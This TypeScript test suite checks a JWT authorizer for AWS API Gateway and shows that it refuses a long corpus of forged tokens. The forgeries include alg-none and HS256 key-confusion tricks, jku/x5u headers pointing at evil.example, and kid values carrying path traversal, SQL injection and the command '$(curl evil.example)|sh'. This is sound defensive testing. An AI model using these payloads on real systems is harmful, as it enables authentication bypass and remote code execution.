import { createPublicKey, generateKeyPairSync } from 'node:crypto'
import { Logger } from '@aws-lambda-powertools/logger'
import type { APIGatewayRequestAuthorizerEventV2 } from 'aws-lambda'
import { calculateJwkThumbprint } from 'jose'
import { beforeAll, describe, expect, it } from 'vitest'
import { type Authorizer, createAuthorizer } from '../../functions/authorizer/authorizer.js'
import { loadAuthorizerConfig } from '../../functions/config.js'
import { issueAccessToken } from '../../functions/core/access-token.js'
import { parseClients } from '../../functions/core/clients.js'
import { InvalidToken } from '../../functions/core/errors.js'
import type { PublicJwk, Session, Signer, User } from '../../functions/core/ports.js'
import { FakeClock } from '../support/clock.js'
import { NATIVE, testSigner } from '../support/harness.js'
import { refusalOf } from '../support/refusals.js'
import { recordSecret } from '../support/secrets.js'
import { b64, mint, signHs256, signRs256, standardClaims } from '../support/tokens.js'

const ISSUER = 'https://auth.example.test'
const AUDIENCE = NATIVE.audience

let signer: Signer
let clock: FakeClock
let authorizer: Authorizer
let ourKid: string
let ourJwk: PublicJwk
let good: string

const claims = (overrides: Record<string, unknown> = {}) => ({
  ...standardClaims(ISSUER, AUDIENCE, clock.now()),
  ...overrides,
})
const without = (name: string) => {
  const all: Record<string, unknown> = claims()
  delete all[name]
  return all
}

function build(env: Record<string, string> = {}): Authorizer {
  return createAuthorizer({
    config: loadAuthorizerConfig({ ISSUER, AUTHORIZER_AUDIENCES: AUDIENCE, ...env }),
    fetchKeys: () => signer.publicKeys(),
    clock,
    logger: new Logger({ serviceName: 'token-service' }),
  })
}

const event = (authorization?: string): APIGatewayRequestAuthorizerEventV2 =>
  ({
    version: '2.0',
    type: 'REQUEST',
    routeArn: 'arn:aws:execute-api:eu-west-1:123456789012:api/$default/GET/me',
    identitySource: authorization === undefined ? [] : [authorization],
    routeKey: 'GET /me',
    rawPath: '/me',
    rawQueryString: '',
    cookies: [],
    headers: authorization === undefined ? {} : { authorization },
    requestContext: {} as APIGatewayRequestAuthorizerEventV2['requestContext'],
  }) as APIGatewayRequestAuthorizerEventV2

/** Why the authorizer refused: the InvalidToken's code, and its check if any (the logs' reason). */
async function refusal(token: string): Promise<string> {
  recordSecret(token)
  const denied = await authorizer.http(event(`Bearer ${token}`))
  expect(denied).toEqual({ isAuthorized: false })
  const error = await authorizer.authorize(`Bearer ${token}`).then(
    () => undefined,
    (e: unknown) => e,
  )
  expect(error).toBeInstanceOf(InvalidToken)
  return refusalOf(error as InvalidToken)
}

const attacker = generateKeyPairSync('rsa', { modulusLength: 2048 })
const attackerJwk = attacker.publicKey.export({ format: 'jwk' })

beforeAll(async () => {
  signer = await testSigner()
  clock = new FakeClock()
  authorizer = build()
  ourKid = await signer.keyId()
  ourJwk = (await signer.publicKeys())[0] as PublicJwk
  good = (await mint(signer, claims())).token
})

describe('the authorizer accepts our tokens', () => {
  it('allows a token issued by the service and passes sub, sid, client_id, scope and roles', async () => {
    const user: User = {
      sub: 'b7f1f6a2-3c4d-4e5f-8a9b-0c1d2e3f4a5b',
      username: 'bob',
      passwordHash: 'unused',
      roles: ['admin', 'reader'],
      status: 'active',
      createdAt: clock.now(),
    }
    const session = { sid: 'c2Vzc2lvbi1pZC05ODc2NQ' } as Session
    const client = parseClients([NATIVE]).get(NATIVE.client_id)
    if (!client) throw new Error('no client')
    const issued = await issueAccessToken(
      signer,
      { issuer: ISSUER, backdateSeconds: 5 },
      { user, session, client, scope: 'api', now: clock.now() },
    )
    recordSecret(issued.token)
    const result = await authorizer.http(event(`Bearer ${issued.token}`))
    expect(result.isAuthorized).toBe(true)
    expect(result.context).toMatchObject({
      sub: user.sub,
      sid: session.sid,
      client_id: NATIVE.client_id,
      scope: 'api',
      roles: ['admin', 'reader'],
    })
  })

  it('takes the bearer scheme in any case and the token from identitySource alone', async () => {
    expect((await authorizer.http(event(`bearer ${good}`))).isAuthorized).toBe(true)
    const sourceOnly = { ...event(), identitySource: [`BEARER ${good}`] }
    expect((await authorizer.http(sourceOnly)).isAuthorized).toBe(true)
  })

  it('accepts exp, nbf and iat up to the allowed skew (30 s by default)', async () => {
    const now = Math.floor(clock.now() / 1000)
    for (const edge of [{ exp: now - 29 }, { nbf: now + 29 }, { iat: now + 29, nbf: now + 29 }]) {
      const { token } = await mint(signer, claims(edge))
      expect(
        (await authorizer.http(event(`Bearer ${token}`))).isAuthorized,
        JSON.stringify(edge),
      ).toBe(true)
    }
  })

  it('accepts typ application/at+jwt (RFC 9068 §4)', async () => {
    const { token } = await mint(signer, claims(), { typ: 'application/at+jwt' })
    expect((await authorizer.http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
  })

  it('expires a token at the authorizer when the injected clock passes exp plus the skew', async () => {
    const local = new FakeClock()
    const shortLived = await mint(signer, standardClaims(ISSUER, AUDIENCE, local.now()))
    const saved = clock
    clock = local
    try {
      const guarded = build()
      expect((await guarded.http(event(`Bearer ${shortLived.token}`))).isAuthorized).toBe(true)
      local.advance(900 + 29)
      expect((await guarded.http(event(`Bearer ${shortLived.token}`))).isAuthorized).toBe(true)
      local.advance(1)
      expect((await guarded.http(event(`Bearer ${shortLived.token}`))).isAuthorized).toBe(false)
    } finally {
      clock = saved
    }
  })

  it('stops allowing a token AUTHORIZER_CACHE_SECONDS before exp plus the skew, so that a cached Allow ends by then', async () => {
    const local = new FakeClock()
    const token = (await mint(signer, standardClaims(ISSUER, AUDIENCE, local.now()))).token
    const saved = clock
    clock = local
    try {
      // API Gateway caches each answer 30 s: the last Allow, cached, ends at exp + 30 s.
      const cached = build({ AUTHORIZER_CACHE_SECONDS: '30' })
      local.advance(900 - 1)
      expect((await cached.http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
      local.advance(1)
      expect((await cached.http(event(`Bearer ${token}`))).isAuthorized).toBe(false)
      expect((await build().http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
    } finally {
      clock = saved
    }
    expect(() => build({ AUTHORIZER_CACHE_SECONDS: '31' })).toThrow(
      'AUTHORIZER_CACHE_SECONDS must not exceed AUTHORIZER_SKEW_SECONDS (30)',
    )
  })

  it('honours AUTHORIZER_SKEW_SECONDS', async () => {
    const strictClock = build({ AUTHORIZER_SKEW_SECONDS: '0' })
    const now = Math.floor(clock.now() / 1000)
    const { token } = await mint(signer, claims({ nbf: now + 1 }))
    expect((await strictClock.http(event(`Bearer ${token}`))).isAuthorized).toBe(false)
    expect((await authorizer.http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
  })

  it('refuses a token whose exp - iat exceeds AUTHORIZER_MAX_TOKEN_LIFETIME_SECONDS plus the skew', async () => {
    // What the stack sets for a longest client TTL of 900 s and a 5 s backdate.
    const bounded = build({ AUTHORIZER_MAX_TOKEN_LIFETIME_SECONDS: '905' })
    const now = Math.floor(clock.now() / 1000)
    const lasting = async (seconds: number) =>
      (await mint(signer, claims({ iat: now - 5, nbf: now - 5, exp: now - 5 + seconds }))).token
    expect((await bounded.http(event(`Bearer ${await lasting(905)}`))).isAuthorized).toBe(true)
    expect((await bounded.http(event(`Bearer ${await lasting(905 + 30)}`))).isAuthorized).toBe(true)
    const tooLong = await lasting(905 + 31)
    expect((await bounded.http(event(`Bearer ${tooLong}`))).isAuthorized).toBe(false)
    await expect(bounded.authorize(`Bearer ${tooLong}`)).rejects.toSatisfy(
      (error: unknown) => error instanceof InvalidToken && error.code === 'lifetime_too_long',
    )
  })

  it('bounds the lifetime by default at the longest any client may have (3600 s) plus the longest backdate (60 s)', async () => {
    const now = Math.floor(clock.now() / 1000)
    const lasting = async (seconds: number) =>
      (await mint(signer, claims({ iat: now - 60, nbf: now - 60, exp: now - 60 + seconds }))).token
    expect((await authorizer.http(event(`Bearer ${await lasting(3660 + 30)}`))).isAuthorized).toBe(
      true,
    )
    expect(await refusal(await lasting(3660 + 31))).toBe('lifetime_too_long')
    expect(await refusal(await lasting(365 * 86_400))).toBe('lifetime_too_long')
  })

  it('accepts only AUTHORIZER_AUDIENCES when it is set', async () => {
    const narrowed = build({ AUTHORIZER_AUDIENCES: 'https://orders.api, https://billing.api' })
    const forOrders = await mint(signer, claims({ aud: 'https://orders.api' }))
    expect((await narrowed.http(event(`Bearer ${forOrders.token}`))).isAuthorized).toBe(true)
    expect((await narrowed.http(event(`Bearer ${good}`))).isAuthorized).toBe(false)
    expect((await authorizer.http(event(`Bearer ${forOrders.token}`))).isAuthorized).toBe(false)
  })

  it('refuses to start with a malformed AUTHORIZER_* setting, naming it', () => {
    expect(() => build({ AUTHORIZER_AUDIENCES: ' , ' })).toThrow(/AUTHORIZER_AUDIENCES/)
    expect(() => build({ JWKS_URI: 'not a url' })).toThrow(/JWKS_URI/)
    expect(() => build({ AUTHORIZER_SKEW_SECONDS: '-1' })).toThrow(/AUTHORIZER_SKEW_SECONDS/)
    expect(() => build({ AUTHORIZER_MAX_TOKEN_BYTES: '10' })).toThrow(/AUTHORIZER_MAX_TOKEN_BYTES/)
    expect(() => build({ AUTHORIZER_MAX_TOKEN_LIFETIME_SECONDS: '86400' })).toThrow(
      /AUTHORIZER_MAX_TOKEN_LIFETIME_SECONDS/,
    )
  })

  it('refuses to start with an http issuer or JWKS URL, except on a loopback host (local mode)', () => {
    expect(() => build({ ISSUER: 'http://auth.example.test' })).toThrow(
      'ISSUER must be an https URL (http only on localhost, 127.0.0.1 or [::1]), got "http://auth.example.test"',
    )
    expect(() => build({ JWKS_URI: 'http://keys.example.test/jwks.json' })).toThrow(
      /^JWKS_URI must be an https URL/,
    )
    expect(() => build({ JWKS_URI: 'ftp://keys.example.test/jwks.json' })).toThrow(/JWKS_URI/)
    for (const local of ['http://localhost:3000', 'http://127.0.0.1:4000', 'http://[::1]:3000']) {
      expect(() =>
        build({ ISSUER: local, JWKS_URI: `${local}/.well-known/jwks.json` }),
      ).not.toThrow()
    }
    expect(() => build({ ISSUER: 'http://localhost.evil.example' })).toThrow(/ISSUER/)
  })

  it('answers the REST variant with an Allow policy for the stage and string-only context', async () => {
    const result = await authorizer.rest({
      type: 'TOKEN',
      authorizationToken: `Bearer ${good}`,
      methodArn: 'arn:aws:execute-api:eu-west-1:123456789012:abc123/prod/GET/orders/7',
    })
    expect(result.principalId).toBe(claims().sub)
    expect(result.policyDocument.Statement).toEqual([
      {
        Action: 'execute-api:Invoke',
        Effect: 'Allow',
        Resource: 'arn:aws:execute-api:eu-west-1:123456789012:abc123/prod/*',
      },
    ])
    expect(result.context).toMatchObject({
      roles: 'reader',
      scope: 'openid api',
      sid: claims().sid,
    })
    for (const value of Object.values(result.context ?? {})) {
      expect(['string', 'number', 'boolean']).toContain(typeof value)
    }
  })

  it('makes the REST variant fail with exactly "Unauthorized" (API Gateway answers 401)', async () => {
    await expect(
      authorizer.rest({
        type: 'TOKEN',
        authorizationToken: 'Bearer nope',
        methodArn: 'arn:x/y/GET/z',
      }),
    ).rejects.toThrow(/^Unauthorized$/)
  })
})

describe('one token, one encoding', () => {
  const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  /** Every other last character that decodes to the same bytes (its unused low bits differ). */
  const otherSpellings = (segment: string): string[] => {
    const bytes = Buffer.from(segment, 'base64url')
    return [...ALPHABET]
      .map((last) => `${segment.slice(0, -1)}${last}`)
      .filter((spelling) => spelling !== segment)
      .filter((spelling) => Buffer.from(spelling, 'base64url').equals(bytes))
  }

  it('refuses the 15 other spellings of a valid RS256 signature, which decode to the same bytes', async () => {
    const [header, payload, signature] = good.split('.') as [string, string, string]
    // 256 bytes take 342 characters: the last one carries 4 bits that decode to nothing.
    const spellings = otherSpellings(signature)
    expect(spellings).toHaveLength(15)
    expect((await authorizer.http(event(`Bearer ${good}`))).isAuthorized).toBe(true)
    for (const spelling of spellings) {
      expect(await refusal(`${header}.${payload}.${spelling}`)).toBe('signature_not_canonical')
    }
  })

  it('refuses other spellings of the header and the payload (they change the signed input)', async () => {
    // A header and claims whose JSON lengths leave unused bits in both last characters.
    const pad = (length: number) => 'x'.repeat(length)
    const { token } = await mint(
      signer,
      claims({ pad: pad(3 - (JSON.stringify(claims({ pad: '' })).length % 3) + 1) }),
      {
        pad: pad(
          3 -
            (JSON.stringify({ alg: 'RS256', typ: 'at+jwt', kid: ourKid, pad: '' }).length % 3) +
            1,
        ),
      },
    )
    const [header, payload, signature] = token.split('.') as [string, string, string]
    const headers = otherSpellings(header)
    const payloads = otherSpellings(payload)
    expect(headers.length).toBeGreaterThan(0)
    expect(payloads.length).toBeGreaterThan(0)
    expect((await authorizer.http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
    for (const spelling of headers) {
      expect(await refusal(`${spelling}.${payload}.${signature}`)).toBe('bad_signature')
    }
    for (const spelling of payloads) {
      expect(await refusal(`${header}.${spelling}.${signature}`)).toBe('bad_signature')
    }
  })
})

describe('the authorizer refuses every forged token', () => {
  const none = (alg: string, signature: string) => async () =>
    `${b64({ alg, typ: 'at+jwt', kid: ourKid })}.${b64(claims())}.${signature}`

  const corpus: [string, () => Promise<string>, string][] = [
    ['alg "none" with no signature', none('none', ''), 'not_compact_jws'],
    ['alg "none" with a signature', none('none', 'c2ln'), 'alg_not_allowed'],
    ['alg "None"', none('None', 'c2ln'), 'alg_not_allowed'],
    ['alg "NONE"', none('NONE', 'c2ln'), 'alg_not_allowed'],
    ['alg "nOnE"', none('nOnE', 'c2ln'), 'alg_not_allowed'],
    [
      'alg "none" keeping our valid signature',
      async () => {
        const [, payload, signature] = good.split('.')
        return `${b64({ alg: 'none', typ: 'at+jwt', kid: ourKid })}.${payload}.${signature}`
      },
      'alg_not_allowed',
    ],
    [
      'alg missing',
      async () => {
        const [, payload, signature] = good.split('.')
        return `${b64({ typ: 'at+jwt', kid: ourKid })}.${payload}.${signature}`
      },
      'alg_not_allowed',
    ],
    [
      'HS256 keyed with our public key as PEM',
      async () => {
        const pem = createPublicKey({ key: { ...ourJwk }, format: 'jwk' }).export({
          type: 'spki',
          format: 'pem',
        })
        return signHs256(String(pem), { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims())
      },
      'alg_not_allowed',
    ],
    [
      'HS256 keyed with our public key as JWK',
      async () =>
        signHs256(JSON.stringify(ourJwk), { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims()),
      'alg_not_allowed',
    ],
    [
      'HS256 keyed with our public key as DER',
      async () => {
        const der = createPublicKey({ key: { ...ourJwk }, format: 'jwk' }).export({
          type: 'spki',
          format: 'der',
        })
        return signHs256(der, { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims())
      },
      'alg_not_allowed',
    ],
    [
      'HS512',
      async () => signHs256('k', { alg: 'HS512', typ: 'at+jwt', kid: ourKid }, claims()),
      'alg_not_allowed',
    ],
    [
      'alg RS512 (not on the allow-list)',
      async () =>
        signRs256(attacker.privateKey, { alg: 'RS512', typ: 'at+jwt', kid: ourKid }, claims()),
      'alg_not_allowed',
    ],
    [
      'alg PS256 (not on the allow-list)',
      async () =>
        signRs256(attacker.privateKey, { alg: 'PS256', typ: 'at+jwt', kid: ourKid }, claims()),
      'alg_not_allowed',
    ],
    [
      'alg ES256 on our RSA key (alg must match the key)',
      async () =>
        signRs256(attacker.privateKey, { alg: 'ES256', typ: 'at+jwt', kid: ourKid }, claims()),
      'alg_not_the_keys',
    ],
    [
      "an embedded jwk header with the attacker's key",
      async () => {
        const kid = await calculateJwkThumbprint({
          kty: 'RSA',
          n: String(attackerJwk.n),
          e: String(attackerJwk.e),
        })
        return signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid, jwk: attackerJwk },
          claims(),
        )
      },
      'foreign_header jwk',
    ],
    [
      'an embedded jwk header under our kid',
      async () =>
        signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid: ourKid, jwk: attackerJwk },
          claims(),
        ),
      'foreign_header jwk',
    ],
    [
      "a jku header pointing at the attacker's JWKS",
      async () =>
        signRs256(
          attacker.privateKey,
          {
            alg: 'RS256',
            typ: 'at+jwt',
            kid: 'attacker',
            jku: 'https://evil.example/jwks.json',
          },
          claims(),
        ),
      'foreign_header jku',
    ],
    [
      'an x5u header',
      async () =>
        signRs256(
          attacker.privateKey,
          {
            alg: 'RS256',
            typ: 'at+jwt',
            kid: 'attacker',
            x5u: 'https://evil.example/cert.pem',
          },
          claims(),
        ),
      'foreign_header x5u',
    ],
    [
      'an x5c header',
      async () =>
        signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid: ourKid, x5c: ['MIIB'] },
          claims(),
        ),
      'foreign_header x5c',
    ],
    [
      'a kid carrying path traversal',
      async () =>
        signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid: '../../../../dev/null' },
          claims(),
        ),
      'kid_malformed',
    ],
    [
      'a kid naming the local key file',
      async () =>
        signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid: '.local/keys/signing-key.pem' },
          claims(),
        ),
      'kid_malformed',
    ],
    [
      'a kid carrying SQL injection',
      async () =>
        signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid: "x' OR '1'='1" },
          claims(),
        ),
      'kid_malformed',
    ],
    [
      'a kid carrying a command',
      async () =>
        signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid: '$(curl evil.example)|sh' },
          claims(),
        ),
      'kid_malformed',
    ],
    [
      'a kid of __proto__',
      async () =>
        signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt', kid: '__proto__' }, claims()),
      'unknown_kid',
    ],
    [
      'a kid that is not a string',
      async () =>
        signRs256(
          attacker.privateKey,
          { alg: 'RS256', typ: 'at+jwt', kid: { $ne: null } },
          claims(),
        ),
      'kid_malformed',
    ],
    [
      'no kid',
      async () => signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt' }, claims()),
      'kid_malformed',
    ],
    [
      "the attacker's key reusing our kid",
      async () =>
        signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt', kid: ourKid }, claims()),
      'bad_signature',
    ],
    ['a truncated signature', async () => good.slice(0, -10), 'bad_signature'],
    [
      'a signature with one bit flipped',
      async () => {
        const [h, p, s] = good.split('.') as [string, string, string]
        const bytes = Buffer.from(s, 'base64url')
        bytes[bytes.length - 1] = (bytes[bytes.length - 1] as number) ^ 1
        return `${h}.${p}.${bytes.toString('base64url')}`
      },
      'bad_signature',
    ],
    [
      'the signature of another token',
      async () => {
        const other = await mint(signer, claims({ jti: 'another-token' }))
        const [h, p] = good.split('.')
        return `${h}.${p}.${other.token.split('.')[2]}`
      },
      'bad_signature',
    ],
    [
      'a payload swapped under a valid signature',
      async () => {
        const [h, , s] = good.split('.')
        return `${h}.${b64(claims({ sub: 'someone-else', roles: ['admin'] }))}.${s}`
      },
      'bad_signature',
    ],
    [
      'a header swapped under a valid signature',
      async () => {
        const [, p, s] = good.split('.')
        return `${b64({ alg: 'RS256', kid: ourKid, typ: 'at+jwt', x: 1 })}.${p}.${s}`
      },
      'bad_signature',
    ],
    [
      'typ missing',
      async () => (await mint(signer, claims(), { typ: undefined })).token,
      'typ_not_at_jwt',
    ],
    ['typ JWT', async () => (await mint(signer, claims(), { typ: 'JWT' })).token, 'typ_not_at_jwt'],
    [
      'typ of an ID token pretender (id_token+jwt)',
      async () => (await mint(signer, claims(), { typ: 'id_token+jwt' })).token,
      'typ_not_at_jwt',
    ],
    [
      'a wrong iss',
      async () => (await mint(signer, claims({ iss: 'https://evil.example' }))).token,
      'wrong_iss',
    ],
    [
      'iss with a trailing slash',
      async () => (await mint(signer, claims({ iss: `${ISSUER}/` }))).token,
      'wrong_iss',
    ],
    [
      'iss given as an array',
      async () => (await mint(signer, claims({ iss: [ISSUER] }))).token,
      'wrong_iss',
    ],
    [
      'a wrong aud',
      async () => (await mint(signer, claims({ aud: 'https://other.api' }))).token,
      'wrong_aud',
    ],
    ['a missing aud', async () => (await mint(signer, without('aud'))).token, 'wrong_aud'],
    [
      'an empty aud array',
      async () => (await mint(signer, claims({ aud: [] }))).token,
      'wrong_aud',
    ],
    [
      'exp in the past beyond the skew',
      async () => (await mint(signer, claims({ exp: Math.floor(clock.now() / 1000) - 31 }))).token,
      'token_expired',
    ],
    [
      'exp as a string',
      async () =>
        (await mint(signer, claims({ exp: String(Math.floor(clock.now() / 1000) + 900) }))).token,
      'date_not_a_number exp',
    ],
    [
      'exp missing',
      async () => (await mint(signer, without('exp'))).token,
      'date_not_a_number exp',
    ],
    [
      'nbf in the future beyond the skew',
      async () => (await mint(signer, claims({ nbf: Math.floor(clock.now() / 1000) + 31 }))).token,
      'not_yet_valid',
    ],
    [
      'iat in the future beyond the skew',
      async () => (await mint(signer, claims({ iat: Math.floor(clock.now() / 1000) + 31 }))).token,
      'issued_in_future',
    ],
    [
      'iat missing',
      async () => (await mint(signer, without('iat'))).token,
      'date_not_a_number iat',
    ],
    ['sub missing', async () => (await mint(signer, without('sub'))).token, 'claim_missing sub'],
    ['sub empty', async () => (await mint(signer, claims({ sub: '' }))).token, 'claim_missing sub'],
    ['jti missing', async () => (await mint(signer, without('jti'))).token, 'claim_missing jti'],
    [
      'client_id missing',
      async () => (await mint(signer, without('client_id'))).token,
      'claim_missing client_id',
    ],
    ['sid missing', async () => (await mint(signer, without('sid'))).token, 'claim_missing sid'],
    [
      'roles not an array',
      async () => (await mint(signer, claims({ roles: 'admin' }))).token,
      'claim_missing roles',
    ],
    [
      'an unknown crit header',
      async () =>
        (
          await mint(signer, claims(), {
            crit: ['urn:example:must-understand'],
            'urn:example:must-understand': true,
          })
        ).token,
      'foreign_header crit',
    ],
    [
      'crit naming a registered claim',
      async () => (await mint(signer, claims(), { crit: ['exp'] })).token,
      'foreign_header crit',
    ],
    [
      'b64 false (unencoded payload)',
      async () => (await mint(signer, claims(), { b64: false, crit: ['b64'] })).token,
      'foreign_header crit',
    ],
    [
      'JWS JSON serialization (flattened)',
      async () => {
        const [protectedHeader, payload, signature] = good.split('.')
        return JSON.stringify({ protected: protectedHeader, payload, signature })
      },
      'not_compact_jws',
    ],
    [
      'JWS JSON serialization (general)',
      async () => {
        const [protectedHeader, payload, signature] = good.split('.')
        return JSON.stringify({ payload, signatures: [{ protected: protectedHeader, signature }] })
      },
      'not_compact_jws',
    ],
    [
      'an oversized token (validly signed)',
      async () => (await mint(signer, claims({ padding: 'x'.repeat(5000) }))).token,
      'token_too_large',
    ],
    ['a token with four segments', async () => `${good}.${good.split('.')[2]}`, 'not_compact_jws'],
    [
      'a JWE-shaped token (five segments)',
      async () => 'eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d',
      'not_compact_jws',
    ],
    [
      'a header that is not JSON',
      async () => `${b64('not json')}.${good.split('.')[1]}.c2ln`,
      'not_json header',
    ],
    [
      'a header that is a JSON array',
      async () => `${b64([1])}.${good.split('.')[1]}.c2ln`,
      'not_json header',
    ],
    [
      'a payload that is not JSON',
      async () => {
        const { token } = await mint(signer, {})
        const [h] = token.split('.')
        const input = `${h}.${b64('{"sub":')}`
        const sig = await signer.sign(new TextEncoder().encode(input))
        return `${input}.${Buffer.from(sig).toString('base64url')}`
      },
      'not_json payload',
    ],
    ['garbage', async () => 'garbage', 'not_compact_jws'],
    ['garbage with dots', async () => '...', 'not_compact_jws'],
    ['base64 with padding and plus signs', async () => 'a+b=.c/d=.e==', 'not_compact_jws'],
    ['non-ASCII', async () => 'é.é.é', 'not_compact_jws'],
  ]

  it.each(corpus)('refuses %s', async (_name, forge, reason) => {
    expect(await refusal(await forge())).toBe(reason)
  })

  it.each([
    ['no Authorization header', undefined, 'no_authorization_header'],
    ['an empty header', '', 'no_authorization_header'],
    ['the Basic scheme', `Basic ${Buffer.from('a:b').toString('base64')}`, 'not_bearer_or_dpop'],
    ['Bearer with no token', 'Bearer', 'not_bearer_or_dpop'],
    ['Bearer with two tokens', `Bearer ${'a.b.c'} ${'d.e.f'}`, 'not_bearer_or_dpop'],
    ['a token without the scheme', 'a.b.c', 'not_bearer_or_dpop'],
    ['a huge header', `Bearer ${'a'.repeat(100_000)}`, 'token_too_large'],
  ])('refuses %s', async (_name, header, reason) => {
    expect(await authorizer.http(event(header))).toEqual({ isAuthorized: false })
    await expect(authorizer.authorize(header)).rejects.toSatisfy(
      (error: unknown) => error instanceof InvalidToken && error.code === reason,
    )
  })

  it('never echoes the presented token in what it returns', async () => {
    const forged = signRs256(
      attacker.privateKey,
      { alg: 'RS256', typ: 'at+jwt', kid: ourKid },
      claims(),
    )
    const error = await authorizer.authorize(`Bearer ${forged}`).catch((e: InvalidToken) => e)
    expect(JSON.stringify({ ...error, message: (error as Error).message })).not.toContain(
      forged.split('.')[2],
    )
  })
})
